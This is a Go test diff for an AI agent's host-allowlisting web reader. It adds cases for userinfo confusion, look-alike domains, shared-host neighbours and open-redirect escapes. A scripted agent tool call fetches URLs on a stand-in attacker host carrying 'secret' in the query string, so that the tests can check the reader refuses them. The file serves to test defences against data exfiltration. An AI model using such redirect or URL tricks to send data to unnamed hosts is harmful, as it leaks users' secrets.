@@ -35,28 +35,34 @@ func webScene(text string, open bool, hosts ...string) *scene {
 	}
 	s := newScene()
 	s.alter = func(task *agent.Task) {
-		task.Web = listedWeb{webpage.NewReader(guard, open), core.HostPatterns{"*.listed.example"}}
+		task.Web = listedWeb{webpage.NewReader(guard, open, func(host string) bool { return host == "host.example" }), core.HostPatterns{"*.listed.example"}}
 	}
 	return s
 }
 
 func TestPagesOfNamedHostsAreRead(t *testing.T) {
-	hosts := []string{"example.com", "docs.example.com", "www.other.example", "api.listed.example", "evil.test", "readme.md", "notexample.com"}
+	hosts := []string{"example.com", "docs.example.com", "www.other.example", "api.listed.example", "evil.test", "readme.md", "notexample.com", "host.example", "mallory.host.example", "a.alice.host.example"}
 	for name, c := range map[string]struct {
 		wish, url string
 		open, may bool
 	}{
 		"an address in the message":       {"Look at https://example.com/about, please", "https://example.com/pricing", false, true},
-		"a name in the message":           {"like example.com.", "https://example.com/", false, true},
-		"a part of what was named":        {"as on Example.COM", "https://docs.example.com/", false, true},
+		"an address at the end of one":    {"like (https://example.com).", "https://example.com/", false, true},
+		"a part of what was named":        {"as on HTTPS://Example.COM:443/", "https://docs.example.com/", false, true},
+		"a bare name, as in code":         {"set data.at = user.name, like example.com", "https://example.com/", false, false},
+		"a part of a name in code":        {"user.www.example.com()", "https://example.com/", false, false},
+		"the user of an address":          {"https://example.com@other.test/", "https://example.com/", false, false},
+		"a page at a host of many":        {"https://alice.host.example/", "https://a.alice.host.example/", false, true},
+		"a neighbour at a host of many":   {"https://host.example/", "https://mallory.host.example/", false, false},
+		"the host of many itself":         {"https://host.example/", "https://host.example/", false, true},
 		"without the www of what was":     {"www.other.example is nice", "https://www.other.example/", false, true},
 		"a host that the workspace lists": {"please", "https://api.listed.example/v1", false, true},
-		"a host that nobody named":        {"like example.com", "https://evil.test/?q=secret", false, false},
-		"one that ends alike":             {"like example.com", "https://notexample.com/", false, false},
+		"a host that nobody named":        {"https://example.com", "https://evil.test/?q=secret", false, false},
+		"one that ends alike":             {"https://example.com", "https://notexample.com/", false, false},
 		"a file that looks like a host":   {"Read README.md", "https://readme.md/", false, false},
 		"any host, where that is allowed": {"please", "https://evil.test/", true, true},
-		"no address":                      {"like example.com", "example.com", false, false},
-		"another scheme":                  {"like example.com", "ftp://example.com/", true, false},
+		"no address":                      {"https://example.com", "example.com", false, false},
+		"another scheme":                  {"https://example.com", "ftp://example.com/", true, false},
 	} {
 		s := webScene("<title>T</title><p>Hello there.", c.open, hosts...)
 		s.wish = c.wish
@@ -65,6 +71,32 @@ func TestPagesOfNamedHostsAreRead(t *testing.T) {
 		if got, failed := s.given(t, 0); failed == c.may || strings.Contains(got, "Hello there.") != c.may {
 			t.Errorf("%s: got %q (failed %v), want it read: %v", name, got, failed, c.may)
 		}
+	}
+}
+
+func TestNoRedirectLeavesTheNamedHosts(t *testing.T) {
+	leaked := false
+	guard := memory.NewGuard().
+		Handle("named.example", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
+		})).
+		Handle("docs.named.example", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = fmt.Fprint(w, "Moved here.") })).
+		Handle("evil.example", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+			leaked = true
+			_, _ = fmt.Fprint(w, "Thanks.")
+		}))
+	s := newScene()
+	s.alter = func(task *agent.Task) {
+		task.Web = listedWeb{webpage.NewReader(guard, false, func(string) bool { return false }), nil}
+	}
+	s.wish = "Look at https://named.example/"
+	s.model.Call("fetch_page", `{"url":"https://named.example/?to=https://evil.example/leak%3Fd=secret"}`).
+		Call("fetch_page", `{"url":"https://named.example/?to=https://docs.named.example/"}`).Say("Read.")
+	s.run(t.Context())
+	s.wantGiven(t, 0, true, "redirects to another address", `nobody named the host "evil.example"`)
+	s.wantGiven(t, 1, false, "Moved here.")
+	if leaked {
+		t.Error("got the redirect followed to a host that nobody named, want it refused before")
 	}
 }
 
